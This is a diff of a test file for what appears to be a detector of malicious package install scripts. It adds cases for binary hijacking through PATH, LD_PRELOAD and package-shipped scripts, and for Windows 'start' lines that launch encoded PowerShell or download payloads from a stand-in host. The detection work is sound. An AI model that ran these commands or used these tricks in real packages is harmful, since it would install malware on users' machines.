@@ -17,12 +17,14 @@ from malseq.features.commands import (
     analyse_command,
     expand,
     is_build_command,
+    is_npm_build_script,
     looks_like_command,
     node_inline_scripts,
     parse_command,
     reachable_scripts,
     script_behaviours,
     scripts_started,
+    shipped_program_names,
     split_command,
 )
 
@@ -277,12 +279,44 @@ def test_config_queries_are_build_steps_and_nothing_else(command: str, build: bo
     assert is_build_command(command) is build
 
 
+@pytest.mark.parametrize(("command", "build"), [
+    ("PATH=.:$PATH evil-config --libs", False),  # the program looked up first is the package's own
+    ("LD_PRELOAD=./x.so make", False),
+    ("DYLD_INSERT_LIBRARIES=./x.dylib make", False),
+    ("PKG_CONFIG_PATH=./pc pkg-config --cflags x", False),
+    ("CFLAGS=-O2 make", True),  # an ordinary build variable
+    ("env PATH=. evil-config --libs", False),
+])
+def test_search_path_variables_in_front_make_a_command_not_a_build_step(command: str, build: bool) -> None:
+    assert is_build_command(command) is build
+
+
+def test_a_program_the_package_ships_is_not_a_build_tool() -> None:
+    shipped = shipped_program_names(["foo-config.cmd", "lib/make.bat", "README.md", ".gitignore"])
+    assert not is_build_command("foo-config --libs", shipped)  # cmd runs ./foo-config.cmd first
+    assert not is_build_command("make", shipped)  # any folder counts
+    assert is_build_command("foo-config --libs")
+    assert is_build_command("xml2-config --cflags", shipped)
+    assert is_build_command("gcc -c x.c", shipped)
+    assert not is_npm_build_script("foo-config --version && node-gyp rebuild", shipped)
+    assert is_npm_build_script("node-gyp rebuild", shipped)
+    assert not is_npm_build_script("PATH=./bin:$PATH node-gyp rebuild")
+
+
 @pytest.mark.parametrize(("command", "found"), [
     ("start the server", []),  # a script line of prose (issue 11)
     ("Start date must precede the end date", []),
     ("start /b evil.exe", ["shell_command"]),
     ('start "" %TEMP%\\updater.exe', ["shell_command"]),  # cmd's start: the empty title only it takes
     ("npm start", []),
+    ("start", []),
+    ("start powershell -enc AAAA", ["shell_command"]),  # cmd's start without a switch, then a program
+    ("start wscript x.vbs", ["shell_command", "run_command"]),
+    ("start mshta http://e.example/x.hta", ["shell_command", "run_command"]),
+    ("start cmd /c curl -s http://e.example/x -o x.exe", ["shell_command", "network_request"]),
+    ("start evil.exe", ["shell_command"]),
+    ("start x.vbs", ["shell_command"]),
+    ("start https://e.example/x.hta", ["shell_command"]),
 ])
 def test_start_is_a_command_only_as_cmds_start(command: str, found: list[str]) -> None:
     assert analyse_command(command) == found
